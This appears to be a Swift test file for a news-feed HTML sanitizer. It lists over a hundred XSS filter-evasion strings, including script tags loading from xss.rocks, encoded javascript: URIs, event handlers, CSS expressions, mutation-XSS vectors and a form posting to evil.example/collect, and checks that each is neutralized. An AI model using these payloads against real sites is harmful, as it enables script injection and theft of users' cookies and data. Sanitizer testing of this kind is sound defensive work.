import FeedChecks
import Testing
@testable import FeedNormalize

/// Attack strings in the style of the OWASP XSS filter evasion cheat sheet,
/// html5sec.org, and the DOMPurify / ammonia / bleach test suites, written
/// out here. None may leave an element outside the allowlist, an `on*` or
/// `style` attribute, or an href/src that is not http(s) (or mailto for
/// links) — checked by parsing the output as XML and walking it.
@Suite("XSS vectors")
struct XSSVectorTests {
    static let vectors: [String] = [
        // Script in all its spellings.
        "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "<SCRIPT SRC=//xss.rocks/.j>",
        "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT a=\">'>\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "\\\";alert('XSS');//",
        "<template><script>alert(1)</script></template>",
        "<plaintext><script>alert(1)</script>",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script> -->",
        // Images and javascript: sources.
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        "<IMG SRC=\"livescript:[code]\">",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<img src=\"https://img.example.cn/a.jpg\" onload=\"alert(1)\">",
        "<img src=\"x\" alt=\"<script>alert(1)</script>\">",
        "<img src=\"x` onerror=alert(1)>",
        "<<img src=x onerror=alert(1)//<",
        "<img data-src=\"javascript:alert(1)\" src=\"data:image/gif;base64,R0lGOD\">",
        "<img srcset=\"javascript:alert(1) 1x\">",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<isindex type=image src=1 onerror=alert(1)>",
        // Links.
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<a onmouseover=alert(document.cookie)>xxs link</a>",
        "<A HREF=\"javascript:document.location='http://www.example.com/'\">XSS</A>",
        "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "<a href=\"\u{0}javascript:alert(1)\">x</a>",
        "<a href=\"java\u{0}script:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\" &#x20; javascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "<a href=\"&#106avascript:alert(1)\">x</a>",
        "<a href=\"jav&#97;script:alert(1)\">x</a>",
        "<a href=javascript&#58;alert(1)>x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "<a href=\"javascript&NewLine;:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"\u{2028}javascript:alert(1)\">x</a>",
        "<a href=\"\u{FEFF}javascript:alert(1)\">x</a>",
        "<a href=\"\u{00A0}javascript:alert(1)\">x</a>",
        "<a href=\"ｊａｖａｓｃｒｉｐｔ:alert(1)\">x</a>",
        "<a href=\"javascript:alert(1)\" xlink:href=\"javascript:alert(2)\">x</a>",
        "<a href=\"javascript:alert(1)//http://ok.example.cn\">x</a>",
        "<a href=\"https:javascript:alert(1)\">x</a>",
        "<a href=\"//javascript:alert(1)\">x</a>",
        "<a href=\"javascript:alert(1)\"><img src=\"https://i.example.cn/a.jpg\"></a>",
        "<a href=\"mailto:x@example.cn?body=<script>alert(1)</script>\">x</a>",
        "<a href=\"https://example.cn/\" onclick=\"alert(1)\" style=\"color:red\" target=\"_top\">x</a>",
        "<a href=\"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e\">x</a>",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
        // Event handlers on everything.
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<BODY ONLOAD=alert('XSS')>",
        "<body onpageshow=alert(1)>",
        "<svg/onload=alert('XSS')>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<select autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<p onclick=\"alert(1)\" ONMOUSEOVER=alert(2) oNeRrOr=x>t</p>",
        "<td onmouseover=alert(1)>x</td>",
        "<BR SIZE=\"&{alert('XSS')}\">",
        // Style and CSS expressions.
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
        "<XSS STYLE=\"behavior: url(xss.htc);\">",
        "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
        "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
        "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
        "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<div style=\"x:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(alert(1))\">t</div>",
        "<p style=\"width:expression(alert(1));background:url(javascript:alert(1))\">样式</p>",
        // Document-level and embedding elements.
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
        "<iframe src=http://xss.rocks/scriptlet.html <",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD>x</TD></TR></TABLE>",
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<object data=\"javascript:alert(1)\">fallback</object>",
        "<embed src=\"javascript:alert(1)\">",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
        "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>",
        // Forms and form attributes.
        "<p srcdoc=\"x\" formaction=\"javascript:alert(1)\">t</p>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input type=\"image\" formaction=javascript:alert(1) src=x>",
        "<form action=\"https://evil.example/collect\"><input name=\"q\" value=\"股票代码\"><button>搜索</button></form>",
        // Foreign content and mutation XSS (DOMPurify-style).
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mi><table><mi><style><img src onerror=alert(1)></style></mi></table></mi></math>",
        "<p><svg><style><img src=x onerror=alert(1)></style></svg></p>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
        "<svg:a xlink:href=\"javascript:alert(1)\">x</svg:a>",
        // Attribute values that try to break out.
        "<p title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</p>",
        "<abbr title=\"&quot; onmouseover=&quot;alert(1)\">x</abbr>",
        "<img src=\"https://i.example.cn/a.jpg\" alt=\"&quot; onerror=&quot;alert(1)\">",
        "<a href=\"https://example.cn/?q=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
        "<time datetime=\"&lt;/time&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">t</time>",
    ]

    @Test(arguments: vectors) func vectorIsNeutralized(_ vector: String) {
        for articleURL in ["https://finance.example.cn/news/a.html", nil] {
            let result = HTMLNormalizer.normalize(vector, articleURL: articleURL)
            #expect(OutputChecker.problems(in: result.html) == [], "\(result.html)")
            #expect(sameBytes(HTMLNormalizer.normalize(result.html, articleURL: articleURL).html, result.html), "not idempotent: \(result.html)")
            // Also inside a paragraph, where parser states differ.
            let wrapped = HTMLNormalizer.normalize("<p>前" + vector + "后</p>", articleURL: articleURL)
            #expect(OutputChecker.problems(in: wrapped.html) == [], "\(wrapped.html)")
            #expect(sameBytes(HTMLNormalizer.normalize(wrapped.html, articleURL: articleURL).html, wrapped.html), "not idempotent: \(wrapped.html)")
        }
    }

    @Test func atLeastAHundredVectors() {
        #expect(Self.vectors.count >= 100)
        #expect(Set(Self.vectors).count == Self.vectors.count)
    }
}
